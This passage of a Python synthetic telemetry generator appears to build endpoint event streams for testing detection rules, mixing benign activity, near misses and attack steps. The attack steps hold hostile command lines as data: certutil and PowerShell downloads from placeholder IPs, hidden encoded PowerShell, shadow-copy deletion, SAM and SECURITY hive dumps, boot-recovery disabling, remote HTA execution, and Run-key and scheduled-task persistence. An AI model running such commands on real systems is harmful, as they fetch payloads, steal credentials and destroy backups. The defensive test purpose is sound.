                f"https://{rng.choice(['cdn-docs.example.net', 'bit.example.io'])}/d/{name}"
            )
            e["file"]["origin_referrer_url"] = "https://mail.example.com/"
            e["file"]["Ext"] = {"windows": {"zone_identifier": 3}}
        self.emit_at(0, e)
        return path

    def attack_download_then_run(self, host: _Host) -> None:
        rng = self.rng
        user = self.user_of(host)
        browser = rng.choice(["chrome.exe", "msedge.exe", "explorer.exe", "7zFM.exe"])
        ext = rng.choice(["js", "vbs", "hta", "JSE", "bat", "cmd"])
        path = self.download(host, user, browser, ext, origin=True)
        explorer = self.find_parent(host, ["explorer.exe"])
        delay = rng.uniform(2_000, 120_000)
        if ext in ("bat", "cmd"):
            self.child(
                host, explorer, "cmd.exe", _w("cmd.exe"), ["/c", path], user=user, delay_ms=delay
            )
        else:
            tool = "mshta.exe" if ext == "hta" else "wscript.exe"
            self.child(
                host, explorer, _case(rng, tool), _w(tool), [path], user=user, delay_ms=delay
            )

    def near_miss_download(self, host: _Host) -> None:
        """A download that the sequence rule must not pair: no origin, too late, other user."""
        rng = self.rng
        user = self.user_of(host)
        kind = rng.randrange(3)
        path = self.download(host, user, "chrome.exe", "js", origin=kind != 0)
        explorer = self.find_parent(host, ["explorer.exe"])
        delay = rng.uniform(1_000, 60_000) if kind != 1 else rng.uniform(200_000, 400_000)
        run_user = (
            user
            if kind != 2
            else ("svc_backup", "CORP", "S-1-5-21-1004336348-1177238915-682003330-5001")
        )
        self.child(host, explorer, "wscript.exe", _w("wscript.exe"), [path], user=run_user,
                   delay_ms=delay)  # fmt: skip

    def shell_parent(self, host: _Host) -> dict:
        return self.find_parent(host, [self.rng.choice(["cmd.exe", "powershell.exe"])])

    def attack_certutil(self, host: _Host) -> None:
        rng = self.rng
        args = rng.choice(
            [["-urlcache", "-split", "-f", "http://203.0.113.9/p.exe", "C:\\Users\\Public\\p.exe"],
             ["-decode", "C:\\Users\\Public\\a.b64", "C:\\Users\\Public\\a.exe"],
             ["/urlcache", "/f", "http://198.51.100.4/x.dll", "x.dll"]]
        )  # fmt: skip
        self.child(host, self.shell_parent(host), _case(rng, "certutil.exe"), _w("certutil.exe"),
                   args, original="CertUtil.exe")  # fmt: skip

    def attack_vssadmin(self, host: _Host) -> None:
        args = self.rng.choice([["delete", "shadows", "/all", "/quiet"], ["list", "shadows"]])
        self.child(host, self.shell_parent(host), "vssadmin.exe", _w("vssadmin.exe"), args,
                   user=SYSTEM, original="VSSADMIN.EXE")  # fmt: skip

    def attack_reg_save(self, host: _Host) -> None:
        hive = self.rng.choice(["hklm\\sam", "HKLM\\SYSTEM", "hklm\\security", "hkcu\\software"])
        self.child(host, self.shell_parent(host), "reg.exe", _w("reg.exe"),
                   ["save", hive, f"C:\\Windows\\Temp\\{hive.rsplit(chr(92), 1)[1]}.save"])  # fmt: skip

    def attack_bcdedit(self, host: _Host) -> None:
        args = self.rng.choice(
            [["/set", "{default}", "recoveryenabled", "No"],
             ["/set", "{default}", "bootstatuspolicy", "ignoreallfailures"], ["/enum"]]
        )  # fmt: skip
        self.child(host, self.shell_parent(host), "bcdedit.exe", _w("bcdedit.exe"), args,
                   user=SYSTEM)  # fmt: skip

    def attack_webshell_whoami(self, host: _Host) -> None:
        w3wp = self.find_parent(host, ["w3wp.exe"])
        w3wp["user"] = IIS_POOL
        cmd = self.child(host, w3wp, "cmd.exe", _w("cmd.exe"), ["/c", "whoami"], user=IIS_POOL)
        self.child(host, cmd, "whoami.exe", _w("whoami.exe"), [], delay_ms=30)

    def attack_encoded_powershell(self, host: _Host) -> None:
        rng = self.rng
        parent = self.find_parent(host, [rng.choice(["cmd.exe", "explorer.exe", "WINWORD.EXE"])])
        args = rng.choice(
            [["-NoP", "-NonI", "-W", "Hidden", "-enc", SUSPICIOUS_ENC],
             ["-c", "(New-Object Net.WebClient).DownloadFile('http://203.0.113.7/a.exe','a.exe')"],
             ["-ExecutionPolicy", "Bypass", "-c", "[System.Reflection.Assembly]::Load($b)"]]
        )  # fmt: skip
        self.child(host, parent, _case(rng, "powershell.exe"),
                   _w("WindowsPowerShell\\v1.0\\powershell.exe"), args,
                   user=self.user_of(host), original="PowerShell.EXE")  # fmt: skip

    def attack_run_key(self, host: _Host) -> None:
        rng = self.rng
        user = self.user_of(host)
        p = self.find_parent(host, ["powershell.exe"])
        payload = rng.choice(["C:\\Users\\Public\\svc.exe", "wscript.exe C:\\ProgramData\\u.vbs",
                              "mshta.exe http://203.0.113.7/x.hta"])  # fmt: skip
        e = self.base(
            host, user, "registry", ["change"], "modification", "endpoint.events.registry"
        )
        key = f"HKEY_USERS\\{user[2]}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"
        e["registry"] = {
            "data": {"strings": [payload], "type": "REG_SZ"},
            "hive": "HKEY_USERS",
            "key": key.split("\\", 1)[1],
            "path": f"{key}\\Updater",
            "value": "Updater",
        }
        e["process"] = {
            "entity_id": p["entity_id"], "executable": p["executable"], "name": p["name"],
            "pid": p["pid"],
        }  # fmt: skip
        self.emit_at(0, e)

    def attack_mshta_child(self, host: _Host) -> None:
        rng = self.rng
        explorer = self.find_parent(host, ["explorer.exe"])
        user = self.user_of(host)
        m = self.child(host, explorer, "mshta.exe", _w("mshta.exe"),
                       ["http://203.0.113.7/update.hta"], user=user)  # fmt: skip
        name = rng.choice(["rundll32.exe", "schtasks.exe", "curl.exe"])
        self.child(host, m, name, _w(name), ["/c", "C:\\Users\\Public\\stage2.dat"],
                   delay_ms=rng.uniform(10, 500))  # fmt: skip

    def attack_cmd_echo_vbs(self, host: _Host) -> None:
        explorer = self.find_parent(host, ["explorer.exe"])
        self.child(host, explorer, "cmd.exe", _w("cmd.exe"),
                   ["/c", "echo", "CreateObject(\"WScript.Shell\").Run(\"calc\")", "1>C:\\Users\\Public\\r.vbs"],
                   user=self.user_of(host))  # fmt: skip

    def attack_schtasks(self, host: _Host) -> None:
        self.child(host, self.shell_parent(host), "schtasks.exe", _w("schtasks.exe"),
                   ["/create", "/sc", "minute", "/mo", "15", "/tn", "Updater", "/tr",
                    "C:\\Users\\Public\\svc.exe", "/f"], user=self.user_of(host))  # fmt: skip

    # --- the stream ----------------------------------------------------------------------

    def run(self, count: int) -> Iterator[dict]:
        rng = self.rng
        hosts, cum_weights = self.hosts, self.host_cum_weights
        emitted = 0
        while emitted < count:
            self.now_ms += rng.expovariate(1.0 / self.mean_gap_ms)
            pending = self.pending
            while pending and pending[0][0] <= self.now_ms:
                at, _, event = heapq.heappop(pending)
                event["@timestamp"] = self.timestamp(at)
                event["event"]["id"] = f"{emitted:08d}-{self.token(8)}"
                # ECS puts @timestamp first; keep keys in a stable, readable order.
                yield {"@timestamp": event.pop("@timestamp"), **event}
                emitted += 1
                if emitted >= count:
                    return
            host = rng.choices(hosts, cum_weights=cum_weights)[0]
            if rng.random() < self.attack_rate:
                self.attack(host)
            else:
                self.benign(host)


def generate_events(
    count: int = 200_000,
    *,
    seed: int = DEFAULT_SEED,
    hosts: int = 300,
    attack_rate: float = 0.004,
    mean_gap_ms: float = 120.0,
) -> Iterator[dict]:
    """Yield ``count`` ECS event dicts in timestamp order, fully determined by the arguments.

    Every event has a unique ``event.id``. ``attack_rate`` is the share of activity steps that
    are attacks or near misses (each step may emit several events).
    """
    yield from _Generator(seed, hosts, attack_rate, mean_gap_ms).run(count)


def to_ndjson(events: Iterable[dict]) -> bytes:
    """One compact JSON document per line, ``\\n`` after each."""
    dumps = orjson.dumps
    return b"".join(dumps(e) + b"\n" for e in events)


def write_ndjson(events: Iterable[dict], out: str | IO[bytes]) -> int:
    """Write events as NDJSON to a path or a binary file; return how many were written."""
    if isinstance(out, str):
        with open(out, "wb") as f:
            return write_ndjson(events, f)
    n = 0
    dumps = orjson.dumps
    for e in events:
        out.write(dumps(e) + b"\n")
        n += 1
    return n


def first_elements(value):
    """A copy of ``value`` in which every list is replaced by its first element (or None)."""
    if isinstance(value, dict):
        return {k: first_elements(v) for k, v in value.items()}
    if isinstance(value, list):
        return first_elements(value[0]) if value else None
    return value


if __name__ == "__main__":
    n = int(sys.argv[1]) if len(sys.argv) > 1 else 200_000
    s = int(sys.argv[2]) if len(sys.argv) > 2 else DEFAULT_SEED
    write_ndjson(generate_events(n, seed=s), sys.stdout.buffer)
